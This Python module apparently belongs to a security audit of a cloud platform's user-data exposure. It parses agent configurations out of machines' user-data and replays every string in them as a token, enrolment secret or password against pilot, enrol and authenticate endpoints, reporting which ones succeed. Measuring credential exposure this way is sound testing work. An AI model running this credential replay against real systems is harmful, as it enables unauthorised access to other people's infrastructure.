"""What a cloud shows of machines' user-data to whoever may look, and what it is still good for."""

import json
import re
import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
from websockets.sync.client import connect

_CONFIG = re.compile(r"<<'PITRIX_CONFIG'\n(.*?)\nPITRIX_CONFIG\n", re.DOTALL)


def configs(data: Path) -> list[dict[str, Any]]:
    """Return the agents' configurations in the user-data of the machines of ``local``."""
    texts = [path.read_text() for path in data.glob("runtimes/*/*/i-*/user-data")]
    return [json.loads(found) for text in texts for found in _CONFIG.findall(text)]


def doors_opened(config: dict[str, Any]) -> Iterator[str]:
    """Try everything in a configuration wherever it could be of use; yield what let us in."""
    if "frontgate_id" in config:
        yield from _at_the_pilot(config)
    else:
        yield from _at_the_frontgate(config)


def _at_the_pilot(config: dict[str, Any]) -> Iterator[str]:
    said = {"version": "0", "endpoints": ["https://192.0.2.1:2381"]}
    for text in _texts(config):
        for protocol, member in ((1, "token"), (2, "token"), (2, "enrolment")):
            who = {"protocol": protocol, "frontgate_id": config["frontgate_id"], member: text}
            url = config["pilot_urls"][0].replace("http", "ws", 1)
            with connect(f"{url}/v1/frontgate", proxy=None) as peer:
                peer.send(json.dumps({"id": "thief", "type": "hello", "body": {**who, **said}}))
                if json.loads(peer.recv(timeout=20))["type"] != "refused":
                    yield f"{member} of protocol {protocol}"


def _at_the_frontgate(config: dict[str, Any]) -> Iterator[str]:
    who = {name: config[name] for name in ("cluster_id", "node_id")}
    trusted = ssl.create_default_context(cadata=config["ca"])
    with httpx.Client(verify=trusted, trust_env=False, timeout=20) as client:
        for text in _texts(config):
            for member in ("enrolment", "password"):
                answer = client.post(f"{config['enrol_url']}/v1/enrol", json={**who, member: text})
                if answer.is_success:
                    yield f"{member} at {answer.url}"
            login = {"name": config["node_id"], "password": text}
            answer = client.post(f"{config['endpoints'][0]}/v3/auth/authenticate", json=login)
            if answer.is_success:
                yield f"password at {answer.url}"


def _texts(config: dict[str, Any]) -> list[str]:
    return [value for value in config.values() if isinstance(value, str) and value]
